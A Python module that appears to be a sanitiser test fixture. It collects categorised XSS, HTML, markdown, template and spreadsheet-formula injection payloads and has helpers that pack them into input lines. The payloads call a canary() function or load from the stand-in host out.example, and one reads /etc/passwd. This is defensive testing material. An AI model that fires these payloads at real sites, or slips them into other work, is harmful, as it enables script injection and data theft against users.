"""Texts that would act on a page if it let them, written for this project, by the kind of trick. What runs calls `canary()`; what
loads asks `out.example` for something."""

OUT = "//out.example"
TRICKS = {
    "script": [
        "<script>canary()</script>", f"<script src={OUT}/s.js></script>", "<scr<script>ipt>canary()</scr</script>ipt>",
        "<SCRIPT\n>canary()</SCRIPT >", "</script><script>canary()</script>",
    ],
    "handler": [
        "<img src=x onerror=canary()>", "<b onmouseover=canary()>x</b>", "<details open ontoggle=canary()>x</details>",
        "<input autofocus onfocus=canary()>", "<body onload=canary()>", "<img src='x' on\x0cerror=canary()>",
    ],
    "out of an attribute": [
        '" autofocus onfocus="canary()', "' onmouseover='canary()", '"><img src=x onerror=canary()>', "x` onerror=`canary()",
        "--><img src=x onerror=canary()><!--",
    ],
    "out of an element": [
        "</title><img src=x onerror=canary()>", "</textarea><img src=x onerror=canary()>", "</main></body></html>",
        "</div></section></form><form action=/sign-out method=post>", "]]><img src=x onerror=canary()>",
    ],
    "style": [
        f"<style>*{{background:url({OUT}/b)}}</style>", f"<p style='background:url({OUT}/c)'>x</p>",
        f"<link rel=stylesheet href={OUT}/l>", f"<style>@import 'https:{OUT}/i';main{{display:none}}</style>",
        "<p style='position:fixed;inset:0'>over</p>",
    ],
    "svg": [
        "<svg onload=canary()></svg>", "<svg><script>canary()</script></svg>", f"<svg><image href={OUT}/v /></svg>",
        "<svg><animate onbegin=canary() attributeName=x dur=1s>",
        "<svg><a href='javascript:canary()'><text>x</text></a></svg>",
    ],
    "mathml": [
        "<math><mtext><script>canary()</script></mtext></math>", "<math href='javascript:canary()'><mi>x</mi></math>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=canary()></annotation-xml></math>",
    ],
    "mutation": [
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=canary()&gt;">',
        '<noscript><p title="</noscript><img src=x onerror=canary()>">',
        '<svg></p><style><a id="</style><img src=x onerror=canary()>">',
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=canary()>",
    ],
    "address": [
        "<a href='javascript:canary()'>a</a>", "<a href='&#106;ava\tscript:canary()'>b</a>",
        "<a href='data:text/html,<script>canary()</script>'>c</a>", "<a href='vbscript:canary()'>d</a>",
        f"<a ping={OUT}/p href=/>e</a>", "<a href='\x01javascript:canary()'>f</a>",
    ],
    "markdown": [
        "[a](javascript:canary())", f"![b]({OUT}/m.png)", "[c](<javascript:canary()>)", "<javascript:canary()>", "[d][js]",
        "![e](data:image/svg+xml,<svg/onload=canary()>)", '[f](x "onmouseover=canary() x=")', f'![g](https:{OUT}/m.png "t")',
        "`<img src=x onerror=canary()>`", "[![h](x)](javascript:canary())", "$\\href{javascript:canary()}{x}$",
        "\n\n[js]: javascript:canary()\n",
    ],
    "entities": [
        "&lt;script&gt;canary()&lt;/script&gt;", "&#x3c;img src=x onerror=canary()&#x3e;", "&amp;lt;b&amp;gt;",
        "&NewLine;&Tab;&colon;",
    ],
    "page": [
        f"<base href={OUT}/>", f"<meta http-equiv=refresh content='0;url={OUT}/'>", f"<iframe src={OUT}/f></iframe>",
        "<iframe srcdoc='<script>parent.canary()</script>'></iframe>", f"<object data={OUT}/o></object>",
        f"<embed src={OUT}/e>", f"<form action={OUT}/x><button>Send</button></form>", "<input name=csrf_token value=x>",
        "<template><script>canary()</script></template>", f"<video src={OUT}/v poster={OUT}/p></video>",
        "<portal src=/></portal>", "<dialog open>x</dialog>",
    ],
    "clobbering": [
        "<img id=main name=body>", "<form id=forms><input name=attributes></form>", "<a id=defaultView name=document></a>",
    ],
    "templates": [
        "{{ 7*7 }}{{ config }}", "{% include '/etc/passwd' %}", "${canary()}", "#{canary()}", "<%= canary() %>",
        "{{constructor.constructor('canary()')()}}",
    ],
    "letters": [
        "\u202egnp.exe\u202c", "\u2066\u2067x\u2069\u2069", "à́̂̃à́̂̃à́̂̃", "\u200b\u2028\u2029\ufeff",
        "＜script＞canary()＜/script＞", "İıſK",
    ],
    "formula": [
        f'=HYPERLINK("https:{OUT}","x")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
    ],
    "blocks": [
        "/// question | choice", "////", "---\nid: x\n---", "{#id}", "[[= gap]]{#g}", "[^1]", "- [x] right", "```",
    ],
}
EVERY = [text for texts in TRICKS.values() for text in texts]
WHOLE = "\n\n".join(EVERY)  # for fields of many lines; its fences and blocks may break the text, never the page


def line(start, most=300):
    """A line of some of them, as many as fit; who asks with other numbers gets others."""
    found, place = "", start % len(EVERY)
    for step in range(len(EVERY)):
        words = " ".join(EVERY[(place + step) % len(EVERY)].split())
        if len(found) + len(words) + 1 <= most:
            found = f"{found} {words}".strip()
    return found


def lines(most):
    """Lines that hold all of them."""
    needed, start = [], 0
    while start < len(EVERY):
        one, step = "", 0
        while start + step < len(EVERY) and len(one) + len(EVERY[start + step]) < most:
            one, step = f"{one} {' '.join(EVERY[start + step].split())}".strip(), step + 1
        needed.append(one)
        start += max(step, 1)
    return needed
